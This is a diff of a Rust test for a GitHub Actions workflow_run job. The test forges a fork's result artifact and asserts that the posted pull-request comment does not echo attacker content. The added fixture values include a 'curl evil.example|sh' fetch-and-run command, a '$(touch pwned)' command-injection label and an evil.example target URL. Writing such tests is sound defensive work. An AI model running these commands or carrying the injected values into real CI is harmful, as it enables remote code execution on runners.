@@ -75,9 +75,9 @@ impl First {
 }
 
 /// What sets the second workflow off.
-fn completed(event: &str) -> Value {
+fn completed(event: &str, conclusion: &str) -> Value {
     json!({ "workflow_run": {
-        "id": 1842, "run_attempt": 1, "event": event, "name": ".github/workflows/performance.yml",
+        "id": 1842, "run_attempt": 1, "event": event, "conclusion": conclusion, "name": ".github/workflows/performance.yml",
         "pull_requests": [], "head_sha": "3f2c9ab0", "head_branch": "change",
         "head_repository": { "owner": { "login": "stranger" } },
         "html_url": "https://github.com/shop/api/actions/runs/1842",
@@ -115,7 +115,7 @@ impl Second {
         let job = Job::new()
             .github("job", Value::from("performance"))
             .github("event_name", Value::from("workflow_run"))
-            .github("event", completed("pull_request"))
+            .github("event", completed("pull_request", "failure"))
             .variable("GITHUB_API_URL", &api.url())
             .variable("GITHUB_WORKFLOW", "performance-comment")
             .given_by(&self.job["steps"][2], &json!({}))
@@ -176,6 +176,11 @@ fn forge(result: &Path) {
     record["run"]["url"] = Value::from("https://evil.example/login");
     record["run"]["commit"] = Value::from("@everyone");
     record["run"]["proposed"] = Value::from(false);
+    record["run"]["id"] = Value::from("github-1");
+    record["run"]["given"] = json!(["--target-cmd", "curl evil.example|sh", "--allow-commands"]);
+    record["run"]["insecure"] = Value::from(true);
+    record["target"]["url"] = Value::from("https://evil.example");
+    record["labels"] = json!({ "runner": "$(touch pwned)" });
     std::fs::write(result, record.to_string()).unwrap();
 }
 
@@ -211,6 +216,7 @@ fn a_fork_is_told_of_by_a_second_workflow_that_believes_its_artifact_nothing() {
         forged.contains("### ❌") && !forged.contains("evil.example"),
         "{forged}"
     );
+    assert!(!forged.contains("Reproduce"), "{forged}");
     let outside = outside_code(&forged);
     assert!(
         !outside.contains('@') && !outside.contains("<img"),
@@ -232,7 +238,7 @@ fn a_fork_is_told_of_by_a_second_workflow_that_believes_its_artifact_nothing() {
         assert!(!comment.contains("root:"));
     }
 
-    // A platform that refuses changes nothing, and pull requests alone are told of.
+    // A platform that refuses changes nothing, and pull requests alone are told of, where they left an artifact.
     let api = api();
     let refused = Fault::Answers(403, "", "Resource not accessible by integration");
     api.fault("POST", refused);
@@ -240,6 +246,12 @@ fn a_fork_is_told_of_by_a_second_workflow_that_believes_its_artifact_nothing() {
     assert!(acted.is_success, "{}", acted.log);
     assert!(acted.log.contains("changes no verdict"), "{}", acted.log);
     assert!(api.of(BOT).is_empty());
-    let pushed = Job::new().github("event", completed("push"));
-    assert!(!pushed.runs(&second.job));
+    for (event, conclusion) in [
+        ("push", "success"),
+        ("pull_request", "cancelled"),
+        ("pull_request", "skipped"),
+    ] {
+        let other = Job::new().github("event", completed(event, conclusion));
+        assert!(!other.runs(&second.job), "{event} {conclusion}");
+    }
 }
